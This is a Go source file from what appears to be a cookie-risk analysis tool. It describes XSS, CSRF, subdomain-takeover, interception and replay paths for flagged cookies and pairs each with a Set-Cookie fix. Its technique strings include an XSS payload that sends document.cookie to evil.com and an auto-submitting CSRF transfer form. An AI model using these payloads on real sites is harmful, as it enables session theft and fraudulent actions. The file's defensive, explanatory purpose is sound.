// Package attack narrates concrete attack paths for cookies the risk
// gate flagged. Each exposed vector pairs a user-side mitigation with
// the Set-Cookie change the site operator should make.
package attack

import (
	"fmt"
	"strings"
	"time"

	"github.com/aiscihub/cookieguard-ai/internal/models"
	"github.com/aiscihub/cookieguard-ai/internal/risk"
)

// Simulate builds the attack surface picture for one scored cookie. A
// closed risk gate yields the empty simulation so low-probability
// cookies never carry attack narratives.
func Simulate(cookie models.CookieRecord, cls models.Classification, outcome risk.Outcome, now time.Time) models.AttackSimulation {
	if !outcome.GateOpen {
		return emptySimulation()
	}

	isAuth := cls.Type == models.TypeAuthentication
	name := cookie.Name
	paths := []models.AttackPath{}
	fixes := []models.Fix{}

	if !cookie.HTTPOnly {
		severity, tail := models.SeverityMedium, "Cookie value could be exfiltrated."
		if isAuth {
			severity, tail = models.SeverityCritical, "This is an authentication cookie — stolen tokens allow full account takeover."
		}
		paths = append(paths, models.AttackPath{
			Type:     "XSS",
			Name:     "Cross-Site Scripting (Cookie Theft)",
			Severity: severity,
			Description: fmt.Sprintf(
				"An attacker who finds an XSS vulnerability can execute `document.cookie` to read \"%s\". %s",
				name, tail),
			Technique:    `Inject <script>fetch("https://evil.com?c="+document.cookie)</script> via XSS vector`,
			Precondition: "XSS vulnerability exists on the site",
		})
		fixes = append(fixes, models.Fix{
			Fix:           "Use a script-blocking extension",
			Impact:        "Reduces XSS risk by blocking inline scripts from untrusted sources",
			Effort:        "Low",
			Code:          "Install uBlock Origin or NoScript to limit JavaScript execution",
			SiteShouldFix: fmt.Sprintf("Set-Cookie: %s=...; HttpOnly", name),
		})
	}

	if cookie.CrossSiteSendable() {
		severity := models.SeverityLow
		if isAuth {
			severity = models.SeverityHigh
		}
		display := strings.ToLower(cookie.SameSite)
		if display == "" {
			display = "not set"
		}
		paths = append(paths, models.AttackPath{
			Type:     "CSRF",
			Name:     "Cross-Site Request Forgery",
			Severity: severity,
			Description: fmt.Sprintf(
				"Cookie \"%s\" is sent with cross-site requests (SameSite=%s). An attacker can craft a malicious page that triggers authenticated requests on behalf of the user.",
				name, display),
			Technique: `Host a page with: <form action="https://target.com/transfer" method="POST">` +
				`<input type="hidden" name="amount" value="10000"></form>` +
				`<script>document.forms[0].submit()</script>`,
			Precondition: "User visits attacker-controlled page while logged in",
		})
		fixes = append(fixes, models.Fix{
			Fix:           "Avoid clicking untrusted links while logged in",
			Impact:        "CSRF requires you to visit a malicious page — staying cautious limits exposure",
			Effort:        "Low",
			Code:          "Log out of sensitive sites before browsing untrusted content",
			SiteShouldFix: fmt.Sprintf("Set-Cookie: %s=...; SameSite=Lax", name),
		})
	}

	subdomainShared := cookie.WildcardDomain() || (cookie.HostOnly != nil && !*cookie.HostOnly)
	if cookie.WildcardDomain() || (subdomainShared && isAuth) {
		severity, tail := models.SeverityMedium, "Cookie manipulation possible."
		if isAuth {
			severity, tail = models.SeverityHigh, "Auth token theft enables account takeover."
		}
		bare := strings.TrimLeft(cookie.Domain, ".")
		paths = append(paths, models.AttackPath{
			Type:     "SUBDOMAIN",
			Name:     "Subdomain Takeover / Cookie Tossing",
			Severity: severity,
			Description: fmt.Sprintf(
				"Cookie \"%s\" is scoped to wildcard domain \"%s\". If an attacker gains control of ANY subdomain (e.g., via dangling DNS, abandoned CNAME, or shared hosting), they can read or overwrite this cookie. %s",
				name, cookie.Domain, tail),
			Technique: fmt.Sprintf(
				"1. Find unused subdomain of %s (e.g., old-staging.%s)\n2. Claim the subdomain via cloud provider\n3. Set up page that reads document.cookie or sets a malicious replacement",
				bare, bare),
			Precondition: fmt.Sprintf("Attacker controls a subdomain of %s", bare),
		})
		fixes = append(fixes, models.Fix{
			Fix:           "Clear cookies after sensitive sessions",
			Impact:        "Limits window for subdomain-based cookie theft",
			Effort:        "Low",
			Code:          "Use browser settings → Clear cookies on exit, or clear manually after banking/sensitive logins",
			SiteShouldFix: fmt.Sprintf("Set-Cookie: %s=...; Domain=%s  (or omit Domain entirely)", name, bare),
		})
		if !strings.HasPrefix(name, "__Host-") {
			fixes = append(fixes, models.Fix{
				Fix:           "Report to site security team",
				Impact:        "Wildcard auth cookies are a known risk — sites should use __Host- prefix",
				Effort:        "Medium",
				Code:          "Contact the site's security team or use their bug bounty program to report this finding",
				SiteShouldFix: fmt.Sprintf("Set-Cookie: __Host-%s=...; Secure; Path=/", name),
			})
		}
	}

	if !cookie.Secure {
		severity, tail := models.SeverityLow, "Cookie value exposed."
		if isAuth {
			severity, tail = models.SeverityHigh, "Authentication token theft allows session hijacking."
		}
		paths = append(paths, models.AttackPath{
			Type:     "NETWORK",
			Name:     "Network Interception (Man-in-the-Middle)",
			Severity: severity,
			Description: fmt.Sprintf(
				"Cookie \"%s\" is transmitted over unencrypted HTTP. On public WiFi or compromised networks, an attacker can intercept the cookie using tools like Wireshark or mitmproxy. %s",
				name, tail),
			Technique:    "ARP spoof + packet capture on same network, or rogue WiFi access point",
			Precondition: "User on shared/compromised network + any HTTP request to site",
		})
		fixes = append(fixes, models.Fix{
			Fix:           "Avoid this site on public WiFi or use a VPN",
			Impact:        "Encrypts your traffic so cookies cannot be intercepted on the network",
			Effort:        "Low",
			Code:          "Enable HTTPS-only mode in browser settings, or use a trusted VPN on public networks",
			SiteShouldFix: fmt.Sprintf("Set-Cookie: %s=...; Secure", name),
		})
	}

	if !cookie.IsSession() {
		days := cookie.DaysUntilExpiry(now)
		if days > 30 && isAuth {
			paths = append(paths, models.AttackPath{
				Type:     "REPLAY",
				Name:     "Session Replay (Long-Lived Token)",
				Severity: models.SeverityMedium,
				Description: fmt.Sprintf(
					"Cookie \"%s\" expires in ~%d days. If stolen, the attacker has a %d-day window to replay the session token before it expires — even if the user changes their password.",
					name, days, days),
				Technique:    "Stolen cookie is replayed via browser extension or curl to maintain access",
				Precondition: "Cookie has already been stolen via one of the above methods",
			})
			fixes = append(fixes, models.Fix{
				Fix:           "Log out manually and clear cookies regularly",
				Impact:        "Invalidates the session token so it cannot be replayed even if stolen",
				Effort:        "Low",
				Code:          `Log out after each session; use browser "Clear cookies on exit" setting`,
				SiteShouldFix: fmt.Sprintf("Set-Cookie: %s=...; Max-Age=86400  (1 day instead of %d)", name, days),
			})
		}
	}

	var overall string
	switch {
	case isAuth && len(paths) >= 2:
		overall = "CRITICAL — Multiple attack vectors can lead to account takeover"
	case isAuth && len(paths) == 1:
		overall = "HIGH — Single attack vector could compromise authentication"
	case len(paths) > 0:
		overall = "MODERATE — Attack paths exist but limited impact for non-auth cookie"
	default:
		overall = "LOW — No significant attack vectors identified"
	}

	return models.AttackSimulation{
		Paths:              paths,
		PathCount:          len(paths),
		OverallRisk:        overall,
		Impact:             summarizeImpact(paths, isAuth),
		Fixes:              dedupeFixes(fixes),
		AttackSurfaceScore: min(len(paths)*25, 100),
	}
}

func emptySimulation() models.AttackSimulation {
	return models.AttackSimulation{
		Paths:       []models.AttackPath{},
		OverallRisk: "LOW — No significant attack vectors identified",
		Impact:      "No actionable attack vectors detected for this cookie.",
		Fixes:       []models.Fix{},
	}
}

// dedupeFixes keeps the first fix for each title. Several paths suggest
// the same user action.
func dedupeFixes(fixes []models.Fix) []models.Fix {
	seen := make(map[string]bool, len(fixes))
	unique := make([]models.Fix, 0, len(fixes))
	for _, fix := range fixes {
		if seen[fix.Fix] {
			continue
		}
		seen[fix.Fix] = true
		unique = append(unique, fix)
	}
	return unique
}

func summarizeImpact(paths []models.AttackPath, isAuth bool) string {
	if len(paths) == 0 {
		return "No actionable attack vectors detected for this cookie."
	}
	if isAuth {
		has := make(map[string]bool, len(paths))
		for _, p := range paths {
			has[p.Type] = true
		}
		switch {
		case has["XSS"] && has["CSRF"]:
			return "Attacker can steal session via XSS and perform actions via CSRF — full account compromise possible."
		case has["XSS"]:
			return "Attacker can steal authentication token via XSS — direct account takeover."
		case has["CSRF"]:
			return "Attacker can perform authenticated actions on behalf of the user via CSRF."
		case has["NETWORK"]:
			return "Session token exposed to network interception — hijacking possible on insecure connections."
		case has["SUBDOMAIN"]:
			return "Subdomain compromise can lead to cookie theft and session hijacking."
		}
	}
	return fmt.Sprintf("%d potential attack vector(s) identified. See individual paths for details.", len(paths))
}
